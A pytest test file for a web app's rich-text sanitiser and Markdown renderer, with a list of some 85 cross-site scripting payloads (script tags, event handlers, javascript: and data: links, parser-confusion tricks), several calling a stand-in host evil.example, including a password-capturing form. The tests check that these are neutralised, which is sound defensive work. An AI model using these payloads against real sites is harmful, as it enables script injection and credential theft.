"""Staff text is rich. What our sanitiser leaves of an attack, a second one finds nothing in."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from participation.foundation.richtext import clean, render_markdown
from participation.web.filters import paragraphs

TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "h3", "h4", "a", "blockquote", "hr", "code"}
ATTACKS = [
    # Scripts, in every dress.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>",
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)'>x</p>",
    '<a href="https://example.org" onfocus=alert(1) autofocus>x</a>',
    '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<p\x0conclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    # Addresses that run.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.org/x">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://example.org "onclick=alert(1)")',
    '![x](javascript:alert(1) "y")',
    "![x](https://evil.example/pixel.gif)",
    # Frames, forms, styles, metadata.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    # Foreign content and parser confusion.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<a href='https://example.org/\"><script>alert(1)</script>'>x</a>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<p>" * 2000 + "<script>alert(1)</script>",
]


class Found(HTMLParser):
    """Notes what a page holds, as a browser's parser sees it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_in(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Found()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_harmless(html: str, tags: set[str], attributes: set[str]) -> None:
    for tag, found in tags_in(html):
        assert tag in tags, (tag, html)
        assert set(found) <= attributes, (found, html)
        address = re.sub(r"[\x00-\x20\x7f-\xa0]", "", found.get("href") or "").lower()
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
        assert not scheme or scheme.group() in {"http:", "https:", "mailto:"}, (address, html)


def second_opinion(html: str) -> str:
    """Return what is left of the HTML when another sanitiser applies the same rules."""
    return nh3.clean(
        html,
        tags=TAGS,
        attributes={"a": {"href"}},
        url_schemes={"http", "https", "mailto"},
        link_rel=None,
    )


def test_the_corpus_is_large_enough():
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("treat", [render_markdown, clean])
def test_nothing_of_an_attack_is_left(treat, attack: str):
    html = treat(attack)
    assert_harmless(html, TAGS, {"href"})
    # Cleaning again, by whomever, finds nothing that it would take away.
    assert tags_in(second_opinion(html)) == tags_in(html)
    assert tags_in(clean(html)) == tags_in(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_citizens_text_stays_text(attack: str):
    html = paragraphs(attack)
    assert_harmless(html, {"p", "br", "a"}, {"class", "href", "rel"})
    for _tag, found in tags_in(html):
        if "href" in found:
            assert (found["href"] or "").startswith(("http://", "https://"))


@given(st.text(alphabet="<>/=\"'` \n\tscriptaonmgvhref:javdt&#;x0()[]!*-", max_size=120))
def test_no_text_whatever_gets_through(text: str):
    assert_harmless(render_markdown(text), TAGS, {"href"})
    assert_harmless(clean(text), TAGS, {"href"})
    assert_harmless(paragraphs(text), {"p", "br", "a"}, {"class", "href", "rel"})


def test_what_staff_may_write_stays():
    source = (
        "### Wir\n\n**fett** und *kursiv*, ein [Link](https://example.org/a?b=1&c=2).\n\n"
        "- eins\n- zwei\n\n1. drei\n\n> Zitat\n\n`Code`\n\n---\n\n[Mail](mailto:a@example.org)"
    )
    html = render_markdown(source)
    for piece in (
        "<h3>Wir</h3>",
        "<strong>fett</strong>",
        "<em>kursiv</em>",
        '<a href="https://example.org/a?b=1&amp;c=2">Link</a>',
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<code>Code</code>",
        "<hr>",
        '<a href="mailto:a@example.org">Mail</a>',
    ):
        assert piece in html, (piece, html)


def test_raw_html_of_staff_stays_visible_text():
    assert "&lt;b&gt;" in render_markdown("<b>nicht fett</b>")
